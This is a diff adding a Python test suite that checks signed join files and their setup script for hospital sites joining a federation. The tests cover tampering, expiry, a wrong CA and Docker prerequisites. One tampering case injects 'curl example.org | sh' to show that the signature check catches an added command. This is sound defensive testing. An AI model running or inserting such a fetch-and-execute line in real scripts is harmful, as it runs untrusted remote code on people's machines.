@@ -1,0 +1,280 @@
+"""A join file is whole and signed by the CA that its kit trusts, and its script refuses what it can tell
+alone. No engine: a program in the place of docker answers."""
+
+from __future__ import annotations
+
+import datetime
+import os
+import subprocess
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from cryptography import x509
+from cryptography.hazmat.primitives import hashes, serialization
+from cryptography.hazmat.primitives.asymmetric import rsa
+
+from bridge.common import join_file
+from bridge.common.join_file import BadJoinFile
+from provisioning import join, state
+from scripts import kit_layer
+
+SITE = "hospital-c"
+TODAY = datetime.datetime.now(datetime.UTC).date()
+SECRET = "-----BEGIN PRIVATE KEY-----\nkey of hospital-c\n-----END PRIVATE KEY-----\n"
+
+
+def authority(folder: Path) -> Path:
+    """Make a CA in a state folder."""
+    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
+    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "flowerbed")])
+    now = datetime.datetime.now(datetime.UTC)
+    certificate = (
+        x509.CertificateBuilder()
+        .subject_name(name)
+        .issuer_name(name)
+        .public_key(key.public_key())
+        .serial_number(x509.random_serial_number())
+        .not_valid_before(now)
+        .not_valid_after(now + datetime.timedelta(days=1))
+        .sign(key, hashes.SHA256())
+    )
+    private = key.private_bytes(
+        serialization.Encoding.PEM,
+        serialization.PrivateFormat.TraditionalOpenSSL,
+        serialization.NoEncryption(),
+    )
+    folder.mkdir()
+    pem = certificate.public_bytes(serialization.Encoding.PEM).decode()
+    state.save(folder, {"root_cert": pem, "root_pri_key": private.decode()})
+    return folder
+
+
+def kit(folder: Path, ca: Path) -> Path:
+    files = {
+        "startup/client.key": SECRET,
+        "startup/client.crt": "certificate\n",
+        "startup/rootCA.pem": state.read(ca)["root_cert"],
+        "startup/fed_client.json": '{"no": "newline"}',
+        "startup/sub_start.sh": "#!/bin/sh\necho $HOME `id` 'x' \\\n",
+        "local/empty": "",
+    }
+    for name, content in files.items():
+        (folder / name).parent.mkdir(parents=True, exist_ok=True)
+        (folder / name).write_text(content)
+    return folder
+
+
+@pytest.fixture(scope="module")
+def ca(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return authority(tmp_path_factory.mktemp("ca") / "state")
+
+
+@pytest.fixture(scope="module")
+def text(ca: Path, tmp_path_factory: pytest.TempPathFactory) -> str:
+    return written(ca, tmp_path_factory.mktemp("kit"))
+
+
+def written(ca: Path, folder: Path, days: int = 1) -> str:
+    invitation = join.Invitation(
+        site=SITE,
+        project="flowerbed",
+        server="fl.example.org:8002",
+        runtime="sha256:abc",
+        runtime_from="",
+        last_day=TODAY + datetime.timedelta(days=days),
+        id="0123",
+        kit="4567",
+    )
+    return join.render(invitation, kit_layer.pack(kit(folder / "kit", ca)), "services: {}\n", ca)
+
+
+class Site:
+    """A machine with a join file, and a `docker` that answers what a test says."""
+
+    def __init__(self, folder: Path, text: str) -> None:
+        self.folder, self.file, self.engine = folder, folder / f"{SITE}.join", folder / "bin/docker"
+        self.file.write_text(text)
+        self.engine.parent.mkdir()
+        self.answers: dict[str, str] = {
+            "version": "echo 28.2.2",
+            "compose version": "echo 2.24.4",
+            "image inspect": "echo sha256:abc",
+            "ps": "true",
+        }
+
+    def run(self, *words: str) -> tuple[int, str]:
+        cases = "".join(f'    "{words}"*) {answer} ;;\n' for words, answer in self.answers.items())
+        self.engine.write_text(
+            f'#!/bin/sh\ncase "$*" in\n{cases}    *) echo "docker $*" >&2; exit 9 ;;\nesac\n'
+        )
+        self.engine.chmod(0o755)
+        process = subprocess.run(
+            ["sh", self.file.name, *words],
+            cwd=self.folder,
+            env={**os.environ, "PATH": f"{self.engine.parent}:{os.environ['PATH']}"},
+            stdin=subprocess.DEVNULL,
+            capture_output=True,
+            text=True,
+            check=False,
+        )
+        return process.returncode, process.stdout + process.stderr
+
+
+@pytest.fixture
+def site(text: str, tmp_path: Path) -> Site:
+    return Site(tmp_path, text)
+
+
+def test_a_file_is_small_text_with_what_it_does_first(text: str, ca: Path) -> None:
+    assert len(text.encode()) < 100_000 and text.isascii()
+    head = text[:2000]
+    fingerprint = join_file.check(text)
+    assert (
+        fingerprint in head
+        and "PRIVATE KEY" in head
+        and f"until {TODAY + datetime.timedelta(days=1)}" in head
+    )
+    assert state.read(ca)["root_pri_key"] not in text
+
+
+def test_the_files_of_a_site_come_out_as_they_went_in(text: str, tmp_path: Path) -> None:
+    script = text.partition('main "$@"\nexit\n')[0]
+    process = subprocess.run(
+        ["sh", "-c", f'{script}\nfiles "{tmp_path}"'], capture_output=True, text=True, check=False
+    )
+    assert (process.returncode, process.stderr) == (0, "")
+    assert (tmp_path / "kit/startup/client.key").read_text() == SECRET
+    assert (tmp_path / "kit/startup/client.crt").readlink() == Path("/renewed/client.crt")
+    assert (tmp_path / "renewed/client.crt").read_text() == "certificate\n"
+    assert (tmp_path / "kit/startup/sub_start.sh").read_text() == "#!/bin/sh\necho $HOME `id` 'x' \\\n"
+    assert (tmp_path / "kit/startup/fed_client.json").read_text() == '{"no": "newline"}\n'
+    assert (tmp_path / "kit/local/empty").read_text() == ""
+    assert (tmp_path / "site").read_text() == (join.FOLDER / "site.sh").read_text()
+
+
+ALTERED: dict[str, Callable[[str], str]] = {
+    "a letter": lambda text: text.replace("opens no port", "opens a port"),
+    "a command": lambda text: text.replace("set -eu\n", "set -eu\ncurl example.org | sh\n", 1),
+    "another site": lambda text: text.replace(f"SITE='{SITE}'", "SITE='hospital-d'"),
+    "a later day": lambda text: text.replace("LAST_DAY='20", "LAST_DAY='30"),
+    "half": lambda text: text[: len(text) // 2],
+    "no signature": lambda text: text.rpartition("#: signature")[0],
+    "a line at the end": lambda text: text + "echo more\n",
+    "another signature": lambda text: text[:-20] + "AAAAAAAAAAAAAAAAAA=\n",
+}
+
+
+@pytest.mark.parametrize("how", ALTERED)
+def test_an_altered_file_has_no_good_signature(text: str, how: str) -> None:
+    altered = ALTERED[how](text)
+    assert altered != text
+    with pytest.raises(BadJoinFile, match=r"altered|no whole join file"):
+        join_file.check(altered)
+
+
+def test_another_ca_cannot_sign_it(text: str, tmp_path: Path) -> None:
+    other = state.read(authority(tmp_path / "other"))
+    key = serialization.load_pem_private_key(other["root_pri_key"].encode(), None)
+    assert isinstance(key, rsa.RSAPrivateKey)
+    certificate = x509.load_pem_x509_certificate(other["root_cert"].encode())
+    body = text.partition(join_file.END)[0]
+    with pytest.raises(BadJoinFile, match="not the one that its kit trusts"):
+        join_file.check(join_file.seal(body, certificate, key))
+
+
+@pytest.mark.parametrize("how", ["a letter", "a command", "another site"])
+def test_the_script_refuses_an_altered_file_before_it_asks_docker(site: Site, how: str) -> None:
+    site.file.write_text(ALTERED[how](site.file.read_text()).replace("curl example.org | sh", "true"))
+    site.answers.clear()
+    code, said = site.run("--yes")
+    assert code == 1 and "was altered or is not complete" in said and "docker" not in said
+
+
+def test_half_a_file_does_nothing(site: Site) -> None:
+    for part in (3, 2):
+        site.file.write_text(site.file.read_text()[: len(site.file.read_text()) * (part - 1) // part])
+        code, said = site.run("--yes")
+        assert code and sorted(path.name for path in site.folder.iterdir()) == ["bin", f"{SITE}.join"], said
+
+
+def test_a_file_is_refused_after_its_last_day(ca: Path, tmp_path: Path) -> None:
+    (tmp_path / "site").mkdir()
+    code, said = Site(tmp_path / "site", written(ca, tmp_path, days=-1)).run("--yes")
+    yesterday = TODAY - datetime.timedelta(days=1)
+    assert code == 1 and f"until {yesterday}, and today is {TODAY}" in said
+    assert "./flowerbed site add hospital-c" in said
+
+
+@pytest.mark.parametrize(
+    ("words", "answer", "expected"),
+    [
+        ("version", "echo permission denied while trying to connect >&2; exit 1", "permission denied while"),
+        ("version", "echo 19.03.2", "expected Docker 20.10 or newer, found 19.03.2"),
+        ("compose version", "exit 1", "expected Docker's Compose plugin, found none"),
+        ("compose version", "echo v2.6.0", "expected Docker Compose 2.20 or newer, found v2.6.0"),
+        ("image inspect", "exit 1", "lacks the federation's runtime image (sha256:abc)"),
+        ("ps", "echo /srv/other", "runs on this machine already, from the folder /srv/other"),
+        ("run", "echo this file was altered; exit 1", "this file was altered"),
+    ],
+)
+def test_what_the_machine_lacks_is_named(site: Site, words: str, answer: str, expected: str) -> None:
+    site.answers[words] = answer
+    code, said = site.run("--yes")
+    assert code == 1 and expected in said, said
+    assert not (site.folder / SITE).exists()
+
+
+SIGNED = "cat >/dev/null; echo signed by AA:BB"
+
+
+def test_another_fingerprint_is_refused(site: Site) -> None:
+    site.answers["run"] = SIGNED
+    code, said = site.run("--fingerprint", "AA:CC")
+    assert code == 1 and "found the CA AA:BB. Somebody else made this file" in said
+    code, said = site.run()
+    assert code == 2 and "expected --fingerprint F" in said and "AA:BB" in said
+    assert not (site.folder / SITE).exists()
+
+
+def test_a_file_joins_and_does_nothing_the_second_time(site: Site) -> None:
+    site.answers |= {"run --rm --interactive": SIGNED, "run": "true", "compose": "true"}
+    code, said = site.run("--fingerprint", "aabb")
+    assert code == 0 and f"{SITE} is registered with fl.example.org:8002." in said, said
+    settings = site.folder / SITE / "site.yml"
+    settings.write_text("cpus: 2\n")
+    site.answers.pop("run")
+    code, said = site.run()
+    assert code == 0 and "has joined already" in said and settings.read_text() == "cpus: 2\n"
+
+
+def test_a_site_that_could_not_start_is_stopped_and_can_be_joined_again(site: Site) -> None:
+    site.answers |= {"run --rm --interactive": SIGNED, "run": "true", "compose --progress": "exit 1"}
+    site.answers["compose logs"] = "echo 2026 - Authenticator - ERROR - registration rejected: it is revoked"
+    site.answers["compose"] = "true"
+    code, said = site.run("--yes")
+    assert code == 1 and "the server refuses the site: it is revoked" in said
+    assert "has not joined, and is stopped" in said
+    first = (site.folder / SITE / ".env").read_text()
+    site.answers["compose --progress"] = "true"
+    code, said = site.run("--yes")
+    assert code == 0, said
+    number = next(line for line in first.splitlines() if line.startswith("SITE_INSTANCE="))
+    assert number in (site.folder / SITE / ".env").read_text().splitlines()
+
+
+def test_a_folder_of_another_site_or_with_other_files_is_left_alone(site: Site) -> None:
+    other = site.folder / "other"
+    other.mkdir()
+    (other / "thesis.txt").touch()
+    assert "has other files in it" in site.run("--yes", "--dir", "other")[1]
+    (other / "site").touch()
+    (other / ".env").write_text("SITE_NAME=hospital-d\n")
+    code, said = site.run("--yes", "--dir", "other")
+    assert code == 1 and "is the folder of the site hospital-d: expected that of hospital-c" in said
+    assert "expected the site's folder, found no site" in site.run("--update", "--dir", "nowhere")[1]
+
+
+@pytest.mark.parametrize("words", [("--fingerprint",), ("--force",), ("--dir", "a:b")])
+def test_wrong_words_exit_with_2(site: Site, words: tuple[str, ...]) -> None:
+    assert site.run(*words)[0] == 2
